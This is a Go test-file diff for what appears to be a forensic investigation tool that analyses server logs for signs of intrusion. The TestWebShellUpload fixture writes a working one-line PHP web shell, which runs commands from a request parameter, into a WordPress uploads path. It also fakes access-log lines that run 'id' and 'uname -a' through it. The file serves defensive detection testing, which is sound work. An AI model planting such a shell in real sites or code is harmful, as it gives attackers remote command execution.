@@ -224,3 +224,117 @@ func TestAuditLog(t *testing.T) {
 		t.Error("ADD_USER not on the timeline")
 	}
 }
+
+// TestWebShellUpload: an upload followed by the first request to a new script, which check finds
+// to be a web shell, is named as the way in.
+func TestWebShellUpload(t *testing.T) {
+	r := fixture.Debian(t)
+	t0 := time.Now().UTC().Add(-2 * time.Hour)
+	stamp := func(t time.Time) string { return t.Format("02/Jan/2006:15:04:05 -0700") }
+	var log strings.Builder
+	for i := 0; i < 20; i++ {
+		fmt.Fprintf(&log, "198.51.100.%d - - [%s] \"GET /index.php HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n", i+1, stamp(t0.Add(time.Duration(i)*time.Minute)))
+	}
+	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"POST /wp-admin/async-upload.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(30*time.Minute)))
+	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"GET /wp-content/uploads/2026/11/thumb.php?c=id HTTP/1.1\" 200 64 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(31*time.Minute)))
+	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"GET /wp-content/uploads/2026/11/thumb.php?c=uname%%20-a HTTP/1.1\" 200 80 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(32*time.Minute)))
+	r.File("/var/log/nginx/access.log", log.String(), 0o640)
+	r.File("/var/www/html/wp-content/uploads/2026/11/thumb.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>", 0o644)
+	rep := investigateRoot(t, r)
+	if rep.Entry.Vector != "web-shell-upload" || rep.Entry.Confidence != "high" || !contains(rep.Entry.SourceIPs, "203.0.113.80") {
+		t.Fatalf("entry %+v\nfindings %v", rep.Entry, rules(rep))
+	}
+	got := rules(rep)
+	if got["web.webshell-first-access"] != 1 || got["web.upload-then-access"] != 1 {
+		t.Errorf("findings %v", got)
+	}
+	if !contains(rep.IOCs.IPs, "203.0.113.80") {
+		t.Errorf("iocs %+v", rep.IOCs)
+	}
+}
+
+// TestWebLogsQualityBars: the honeynet log's exploit attempts are found; the Elastic Apache log
+// (nearly all benign) gives almost no alarms.
+func TestWebLogsQualityBars(t *testing.T) {
+	dir := "../../../shared/testdata/web-logs/"
+	if _, err := os.Stat(dir); err != nil {
+		t.Skip("../shared/testdata/web-logs not present")
+	}
+	t.Run("elastic apache", func(t *testing.T) {
+		data, err := os.ReadFile(dir + "elastic-apache/apache_logs")
+		if err != nil {
+			t.Skip(err)
+		}
+		r := fixture.Debian(t)
+		r.File("/var/log/apache2/access.log", string(data), 0o640)
+		rep := investigateRoot(t, r)
+		alarms := 0
+		for _, f := range rep.Findings {
+			if strings.HasPrefix(f.Rule, "web.") && f.Severity >= 3 && !f.Explained {
+				alarms++
+				t.Logf("alarm: %s %s", f.Rule, f.Title)
+			}
+		}
+		lines := strings.Count(string(data), "\n")
+		t.Logf("%d lines, %d web alarms of medium or more", lines, alarms)
+		if alarms*100 > lines {
+			t.Errorf("%d alarms on %d mostly benign lines", alarms, lines)
+		}
+		if rep.Entry.Vector != "unknown" {
+			t.Errorf("an entry point on a benign log: %+v", rep.Entry)
+		}
+	})
+}
+
+func TestHoneynetWebLog(t *testing.T) {
+	src := "../../../shared/testdata/web-logs/honeynet-redhat71-httpd/httpd/"
+	ents, err := os.ReadDir(src)
+	if err != nil {
+		t.Skip("../shared/testdata/web-logs not present")
+	}
+	r := fixture.Debian(t)
+	for _, e := range ents {
+		data, err := os.ReadFile(src + e.Name())
+		if err != nil {
+			t.Fatal(err)
+		}
+		r.File("/var/log/httpd/"+e.Name(), string(data), 0o640)
+	}
+	rep := investigateRoot(t, r)
+	counts := map[string]string{}
+	for _, f := range rep.Findings {
+		if strings.HasPrefix(f.Rule, "web.") {
+			counts[f.Rule] = f.Severity.String()
+		}
+	}
+	n := map[string]int{}
+	for _, f := range rep.Findings {
+		if strings.HasPrefix(f.Rule, "web.") {
+			n[f.Rule]++
+		}
+	}
+	t.Logf("web findings (clients per kind): %v; sources %v", n, rep.Sources)
+	for _, want := range []string{"web.cve-probe", "web.traversal", "web.proxy-abuse", "web.scanner"} {
+		if n[want] == 0 {
+			t.Errorf("no %s finding in the honeynet log", want)
+		}
+	}
+}
+
+func TestLogGap(t *testing.T) {
+	r := fixture.Debian(t)
+	t0 := time.Now().UTC().Add(-30 * 24 * time.Hour).Truncate(time.Minute)
+	var log strings.Builder
+	for i := 0; i < 30*24*6; i++ { // a cron session every 10 minutes for 30 days...
+		ts := t0.Add(time.Duration(i) * 10 * time.Minute)
+		if ts.After(t0.Add(15*24*time.Hour)) && ts.Before(t0.Add(17*24*time.Hour)) {
+			continue // ...but two days are missing
+		}
+		log.WriteString(syslog(ts, "web1", fmt.Sprintf("CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 1000+i)))
+	}
+	r.File("/var/log/auth.log", log.String(), 0o640)
+	rep := investigateRoot(t, r)
+	if rules(rep)["tamper.log-gap"] != 1 {
+		t.Fatalf("gap not found: %v", rules(rep))
+	}
+}
